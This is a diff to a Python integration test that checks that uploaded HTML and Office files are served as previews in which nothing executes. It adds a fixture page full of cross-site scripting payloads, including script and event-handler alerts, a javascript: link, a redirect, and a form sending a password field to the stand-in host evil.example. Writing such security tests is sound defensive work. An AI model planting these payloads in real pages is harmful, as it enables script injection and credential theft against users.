@@ -19,13 +19,17 @@ from tests.integration.knowledge.test_file_routes import client
 from tests.integration.knowledge.test_previews import address
 
 assert client, "The fixture: Bob's browser."
+HOSTILE_PAGE = b"""<!doctype html><script>alert(1)</script><style>body{display:none}</style><meta http-equiv=refresh
+content='0;url=https://evil.example/'><p onclick=alert(1)>&lt;script&gt;alert(1)&lt;/script&gt;</p><svg onload=alert(1)>
+<a href='javascript:alert(1)'>press</a><iframe src='https://evil.example/'></iframe><img src='https://evil.example/a.png'>
+<form action='https://evil.example/'><input name=password></form><link rel=stylesheet href='https://evil.example/a.css'>"""
 FRAMED = {"sec-fetch-dest": "iframe"}
 
 
 async def test_office_files_are_pages_in_which_nothing_acts(
     client: httpx.AsyncClient, people: People, add: Upload
 ) -> None:
-    for name, data in (("a.docx", hostile_docx()), ("b.xlsx", hostile_xlsx()), ("c.pptx", hostile_pptx())):
+    for name, data in HOSTILE:
         place = address((await add(people.bob, name, data)).id)
         answer = await client.get(place, headers=FRAMED)
         policy = answer.headers["content-security-policy"]
@@ -101,3 +105,6 @@ def hostile_pptx() -> bytes:
     slide.notes_slide.notes_text_frame.text = "Remember the walrus"
     slide.shapes.add_picture(BytesIO(picture("PNG", (40, 20))), 0, 9_999_999)
     return saved(presentation)
+
+
+HOSTILE = (("a.html", HOSTILE_PAGE), ("b.docx", hostile_docx()), ("c.xlsx", hostile_xlsx()), ("d.pptx", hostile_pptx()))
